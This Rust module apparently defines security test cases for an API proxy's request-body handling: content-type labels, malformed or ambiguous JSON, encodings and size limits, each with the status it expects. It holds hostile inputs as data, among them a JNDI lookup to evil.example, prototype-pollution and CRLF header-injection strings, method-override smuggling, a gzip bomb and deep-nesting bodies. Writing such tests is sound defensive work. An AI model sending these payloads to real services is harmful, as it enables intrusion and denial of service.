//! Tricks with the body: labels, codings and charsets that two readers understand differently, JSON that is
//! none or is two things at once, and sizes. Source: Apollo facts §8.4 rows 41 to 43 and 54.

use super::case::{BAD, Case, JUDGED, SEARCH, SERVED, Want, named};

const UNSUPPORTED: Want = Want::Refused(&[415]);
const MASKED: Want = Want::Refused(&[422]);

/// What a plain body is said to be.
#[rustfmt::skip]
const LABELS: &[(Want, &str)] = &[
    (UNSUPPORTED, ""), (UNSUPPORTED, "text/plain"), (UNSUPPORTED, "application/x-www-form-urlencoded"),
    (UNSUPPORTED, "multipart/form-data; boundary=x"), (UNSUPPORTED, "text/json"),
    (UNSUPPORTED, "application/xml"),
    (UNSUPPORTED, "application/jsonp"), (UNSUPPORTED, "application/json-patch+json"),
    (UNSUPPORTED, "application/*"),
    (UNSUPPORTED, "application/scim+json"), (UNSUPPORTED, "application/json, text/plain"),
    (UNSUPPORTED, "json"),
    (UNSUPPORTED, "text/plain; application/json"), (UNSUPPORTED, "application/json; charset=utf-16"),
    (UNSUPPORTED, "application/json; charset=utf-7"), (UNSUPPORTED, "application/json; charset=iso-8859-1"),
    (UNSUPPORTED, "application/json; charset=ibm037"),
    (UNSUPPORTED, "application/json; charset=utf-8, utf-16"),
    (UNSUPPORTED, "application/json; boundary=x"), (UNSUPPORTED, "application/json;charset"),
    (UNSUPPORTED, "application/json x"), (UNSUPPORTED, "application /json"),
    (UNSUPPORTED, "application/json\u{e9}"),
    (UNSUPPORTED, "application/octet-stream"), (UNSUPPORTED, "application/x-ndjson"), (UNSUPPORTED, "*/*"),
    (SERVED, "application/json"), (SERVED, "APPLICATION/JSON"), (SERVED, "application/json; charset=utf-8"),
    (SERVED, "application/json;charset=\"UTF-8\""), (SERVED, "\tapplication/json ;"),
];

/// Bodies that are no plain JSON object.
#[rustfmt::skip]
const BODIES: &[&[u8]] = &[
    b"[]", b"null", b"1", b"\"{}\"", b"true", b"{", b"}", b"{}{}", b"{},", b"{}\0", b"\0{}", b"{}x",
    b"{\"a\":1,}",
    b"{'a':1}", b"{a:1}", b"{\"a\":01}", b"{\"a\":1.}", b"{\"a\":.5}", b"{\"a\":+1}", b"{\"a\":0x1}",
    b"{\"a\":NaN}",
    b"{\"a\":Infinity}", b"{\"a\":-Infinity}", b"{\"a\":undefined}", b"{\"a\":1/*x*/}", b"{\"a\":1}//x",
    b"#{}",
    b"{\"a\":\"\\x41\"}", b"{\"a\":\"\\ud800\"}", b"{\"a\":\"\\udc00\\ud800\"}", b"{\"a\":\"\n\"}",
    b"{\"a\":\"\t\"}",
    b"{\"a\":\"\xff\"}", b"{\"\xc0\xaf\":1}", b"{\"a\":\"\xed\xa0\x80\"}", b"\xef\xbb\xbf{}",
    b"\xff\xfe{\0}\0",
    b"\xfe\xff\0{\0}", b"{\0}\0", b"\0\0\0{\0\0\0}", b"+AHsAfQ-", b"\x1f\x8b\x08\0\0\0\0\0", b"%7B%7D",
    b"a=1&b=2",
    b"--x\r\ncontent-disposition: form-data; name=\"_method\"\r\n\r\nDELETE\r\n--x--\r\n", b")]}',\n{}",
    b"{}\n{}",
    b"\x1e{}\n", b"\xc2\xa0{}", b"\x0c{}", b"<a/>", b"---\na: 1", b"!!binary x",
    b"{\"a\":1}{\"_method\":\"DELETE\"}",
    b"{\"a\":1,\"a\":2}", b"{\"a\":1,\"\\u0061\":2}", b"{\"x\":{\"a\":1,\"a\":1}}",
    b"{\"x\":[{\"a\":1,\"a\":2}]}",
    b"{\"\":1,\"\":2}", b"{\"a\":{\"b\":[1,{\"c\":1,\"c\":null}]}}",
];

/// Bodies that are, however odd: they arrive byte for byte.
#[rustfmt::skip]
const ODD: &[&[u8]] = &[
    b" \t\r\n{ } \n", b"{\"\":1}", b"{\"__proto__\":{\"admin\":true}}",
    b"{\"constructor\":{\"prototype\":{}}}",
    b"{\"a\":1e999}", b"{\"a\":123456789012345678901234567890.10}", b"{\"a\":-0.0}", b"{\"a\":\"\\u0000\"}",
    b"{\"a\":\"\\ud83d\\ude00\"}", b"{\"a\":\"../../users\"}", b"{\"a\":\"${jndi:ldap://evil.example}\"}",
    b"{\"a\":\"\\r\\nx-api-key: x\"}", b"{\"$ref\":\"#/a\"}", b"{\"json_class\":\"Object\"}",
    b"{\"^o\":\"Object\"}",
    b"{\"A\":1,\"a\":2}", b"{\"a\":1,\"a \":2}", "{\"\u{e9}\":1,\"e\u{301}\":2}".as_bytes(),
    b"{\"a\":[[[[[[]]]]]]}",
];

/// Masks that come back would be stored in the place of what they hide.
#[rustfmt::skip]
const MASKS: &[&str] = &[
    r#"{"email":"[masked by seatbridge]"}"#, r#"{"a":{"b":["[masked by seatbridge]"]}}"#,
    r#"{"a":"x [masked by seatbridge] y"}"#, r#"{"a":"[masked\u0020by seatbridge]"}"#,
    r#"{"[masked by seatbridge]":1}"#,
];

pub fn rows() -> Vec<Case> {
    let mut rows = Vec::new();
    for (want, label) in LABELS {
        rows.push(Case::search(format!("label {}", named(label)), *want).labelled(label));
    }
    for body in BODIES {
        rows.push(Case::search(format!("body {}", named(body)), BAD).body(body));
    }
    for body in ODD {
        rows.push(Case::search(format!("odd body {}", named(body)), SERVED).body(body));
    }
    for body in MASKS {
        rows.push(Case::search(format!("mask {body}"), MASKED).body(body));
    }
    let query = "q=%5Bmasked%20by%20seatbridge%5D";
    rows.push(Case::call("a mask in the query", MASKED, format!("POST {SEARCH}?{query}")));
    for coding in ["gzip", "deflate", "br", "zstd", "compress", "identity", "gzip, gzip", "chunked", "x"] {
        rows.push(
            Case::search(format!("coding {coding}"), JUDGED).with(format!("content-encoding: {coding}")),
        );
    }
    // `{}` and a bomb of zeros, deflated as gzip has it.
    let packed: [&[u8]; 2] = [
        b"\x1f\x8b\x08\0\0\0\0\0\0\x03\xab\xae\x05\0\x43\xbf\xa6\xa3\x02\0\0\0",
        b"\x1f\x8b\x08\0\0\0\0\0\0\x03\xed\xc1\x01\x0d\0\0\0\xc2\xa0\xf7\x4f\x6d\x0e\x37\xa0",
    ];
    for (number, body) in packed.iter().enumerate() {
        let case = Case::search(format!("packed {number}"), Want::Refused(&[400, 415])).body(body);
        rows.push(case.with("content-encoding: gzip"));
    }
    rows.extend(two_labels());
    rows.extend(sizes());
    rows.extend(unexpected());
    rows
}

fn two_labels() -> Vec<Case> {
    let form = "content-type: application/x-www-form-urlencoded";
    vec![
        Case::search("a second label", JUDGED).with(form),
        Case::search("the second label is right", JUDGED)
            .labelled("text/plain")
            .with("content-type: application/json"),
        Case::search("a form under a second label", BAD).with(form).body("_method=DELETE"),
    ]
}

/// Deep, wide and large.
fn sizes() -> Vec<Case> {
    let nested = |depth: usize| format!("{{\"a\":{}{}}}", "[".repeat(depth), "]".repeat(depth));
    let objects = |depth: usize| format!("{}1{}", "{\"a\":".repeat(depth), "}".repeat(depth));
    let wide: Vec<String> = (0..5000).map(|number| format!("\"a{number}\":1")).collect();
    let large = Want::Refused(&[0, 413]);
    vec![
        Case::search("lists 1,000 deep", BAD).body(nested(1000)),
        Case::search("lists 200,000 deep", BAD).body(nested(200_000)),
        Case::search("objects 1,000 deep", BAD).body(objects(1000)),
        Case::search("objects 100,000 deep", BAD).body(objects(100_000)),
        Case::search("brackets that never close", BAD).body("[".repeat(300_000)),
        Case::search("5,000 members", SERVED).body(format!("{{{}}}", wide.join(","))),
        Case::search("a number of 100,000 digits", SERVED).body(format!("{{\"a\":{}}}", "9".repeat(100_000))),
        Case::search("a text of 500 KiB", SERVED).body(format!("{{\"a\":\"{}\"}}", "x".repeat(500 * 1024))),
        Case::search("500 KiB of blanks", SERVED).body(format!("{}{{}}", " ".repeat(500 * 1024))),
        Case::search("a byte beyond the limit", large).body(format!("{}{{}}", " ".repeat((1 << 20) - 1))),
        Case::search("3 MiB", large).body(format!("{{\"a\":\"{}\"}}", "x".repeat(3 << 20))),
    ]
}

/// Bodies where none belongs.
fn unexpected() -> Vec<Case> {
    let at = |verb: &str, path: &str, want| {
        Case::call(format!("a body to {verb} {path}"), want, format!("{verb} {{mount}}{path}"))
            .labelled("application/json")
            .body(r#"{"reveal_phone_number":true}"#)
    };
    let refused = Want::Refused(&[400, 403]);
    vec![
        at("GET", "/users/search", refused),
        at("GET", "/people/match", refused),
        at("GET", "/contacts/6c00000000000000000000a1", refused),
        at("GET", "/labels", refused),
        at("GET", "/auth/health", JUDGED),
        at("HEAD", "/people/match", Want::Refused(&[404])),
        at("DELETE", "/people/match", Want::Refused(&[404])),
        at("TRACE", "/people/match", Want::Refused(&[0, 400, 404])),
    ]
}
